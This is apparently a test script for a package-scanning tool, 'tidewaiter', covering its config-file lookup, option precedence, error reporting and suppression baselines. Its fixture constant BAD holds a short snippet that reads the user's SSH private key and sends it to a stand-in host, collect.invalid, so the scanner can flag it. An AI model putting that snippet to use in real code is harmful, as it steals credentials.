#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""tidewaiter.yaml: found upward, its options are those of scan, the command line wins, what is wrong in it is named with its place;
--only and --ignore by themselves."""
import argparse
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

passed = failed = 0
BAD = "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://collect.invalid/', data=key.encode())\n"


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[str(m)[:600] for m in more])


def package(folder, code):
    (folder / "reef").mkdir(parents=True)
    (folder / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n")
    (folder / "reef/__init__.py").write_text(code)
    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='reef', version='1.0', packages=['reef'])\n")
    return folder


def suppressions(program, tmp):
    bad = package(tmp / "bad", BAD)
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1700000000"}

    def tw(*args, **more):
        r = subprocess.run([program, "scan", "--no-cache", *map(str, args)], capture_output=True, text=True, timeout=120, cwd=tmp, env={**env, **more})
        return r.returncode, r.stdout, r.stderr

    def results():
        return json.loads(tw("--format", "sarif", "--suppressions", known, bad)[1])["runs"][0]["results"]

    known = tmp / "known.yaml"
    code, out, _ = tw("--format", "baseline", bad)
    check(code == 1 and "- finding: theft." in out and 'expires: "2024-02-12"' in out, "a baseline", out)
    known.write_text(out)
    code, out, err = tw("--suppressions", known, bad)
    check(code == 0 and "MALICIOUS" in out and "suppressed" in out and "hold for nothing" not in err, "it holds: the verdict stands, the status does not fail", code, out, err)
    marked = [r["suppressions"] for r in results()]
    check(marked and all(len(m) == 1 and m[0]["kind"] == "external" and m[0]["status"] == "accepted" and m[0]["properties"]["owner"] == "baseline" for m in marked), "SARIF has them", marked)
    check(tw("--suppressions", known, bad, SOURCE_DATE_EPOCH="1800000000")[0] == 1 and "have expired" in tw("--suppressions", known, bad, SOURCE_DATE_EPOCH="1800000000")[2], "not beyond its day")
    (tmp / "tidewaiter.yaml").write_text("suppressions: known.yaml\n")
    check(tw(bad)[0] == 0, "named in tidewaiter.yaml, beside it")
    (tmp / "tidewaiter.yaml").unlink()
    source = bad / "reef/__init__.py"
    source.write_text(BAD + "# changed\n")
    code, out, err = tw("--suppressions", known, bad)
    check(code == 1 and "hold for nothing" in err, "void when the code changes", code, err)
    source.write_text(BAD)
    known.write_text(known.read_text().replace("finding: theft.", "finding: other."))
    check(tw("--suppressions", known, bad)[0] == 1, "another finding with that content")
    for text in ("- a\n", "x", "- finding: a\n"):
        known.write_text(text)
        code, out, err = tw("--suppressions", known, bad)
        check(code == 2 and not out and "known.yaml:1:" in err, f"wrong: {text!r}", code, err)
    check(tw("--suppressions", tmp / "absent", bad)[0] == 2, "no such file")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", default="build/tidewaiter")
    program = os.path.abspath(ap.parse_args().tidewaiter)
    with tempfile.TemporaryDirectory() as name:
        tmp = Path(name)
        deep = tmp / "project/a/b"
        deep.mkdir(parents=True)
        good, bad = package(tmp / "good", "X = 1\n"), package(tmp / "bad", BAD)
        config = tmp / "project/tidewaiter.yaml"

        def tw(*args, cwd=deep):
            r = subprocess.run([program, "scan", "--no-cache", *map(str, args)], capture_output=True, text=True, timeout=120, cwd=cwd)
            return r.returncode, r.stdout, r.stderr

        code, out, err = tw(good, bad)
        check(code == 1 and out.startswith("clear") and "tidewaiter.yaml" not in err, "without one", code, out, err)
        config.write_text("# ours\nfail-on: never\nformat: jsonl\n")
        code, out, err = tw(good, bad)
        check(code == 0 and len([json.loads(x) for x in out.splitlines()]) == 2 and "options of " in err and str(config) in err, "found upward, and said", code, out, err)
        code, out, err = tw("--fail-on", "malicious", "--format=text", good, bad)
        check(code == 1 and out.startswith("clear"), "the command line wins", code, out)
        code, out, err = tw("--no-config", good, bad)
        check(code == 1 and out.startswith("clear") and "options of" not in err, "--no-config", code, out, err)
        code, out, err = tw(good, bad, cwd=tmp)
        check(code == 1 and out.startswith("clear"), "not found downward", code, out)
        config.write_text(f"only: suspicious\nignore:\n- '**/bad'\n- {tmp}/nothing\n")
        code, out, err = tw(good, bad)
        check(code == 0 and "bad" not in out and "1 of 2 artifacts ignored" in err, "ignored, and said", code, out, err)
        code, out, err = tw("--no-config", "--only", "suspicious", good, bad)
        check(code == 1 and "good" not in out and "MALICIOUS" in out and "1 clear" in out, "--only", out)
        code, out, err = tw("--no-config", "--only", "suspicious", "--format", "json", good, good)
        check(code == 0 and json.loads(out) == [], "--only leaves nothing, in JSON", out)
        for text, says in [("fail-on: high\n", ":1:10: fail-on: not a level"), ("\nrules: x\n", ":2:8: rules: not an option"), ("- a\n", "no mapping"), ("format: {a: b}\n", "format: not a word"),
                           ("format: json\nformat: text\n", ":2:"), ("a: [", ":1:"), ("format: xml\x00\n", ":1:"), ("only: [1]\n", "not a level"), ("format: " + "x" * 70000, "tidewaiter.yaml")]:
            config.write_text(text)
            code, out, err = tw(good)
            check(code == 2 and not out and says in err and "\x1b" not in err, f"wrong: {text[:30]!r}", code, out, err)
        for text in ("", "# fail-on: never\n\n"):
            config.write_text(text)
            check(tw(good)[0] == 0 and tw(bad)[0] == 1, "an empty one")
        config.unlink()
        (tmp / "elsewhere").write_text("fail-on: never\n")
        config.symlink_to(tmp / "elsewhere")
        code, out, err = tw(bad)
        check(code == 1 and "is not used" in err, "a link is not followed, and that is said", code, err)
        if os.geteuid() == 0:
            config.unlink()
            config.write_text("fail-on: never\n")
            os.chown(config, 0, 0)
            check(tw(bad)[0] == 0, "one of root's")
            os.chown(config, 12345, 12345)
            code, out, err = tw(bad)
            check(code == 1 and "is not used" in err, "another user's is not believed", code, err)
    with tempfile.TemporaryDirectory() as name:
        suppressions(program, Path(name))
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
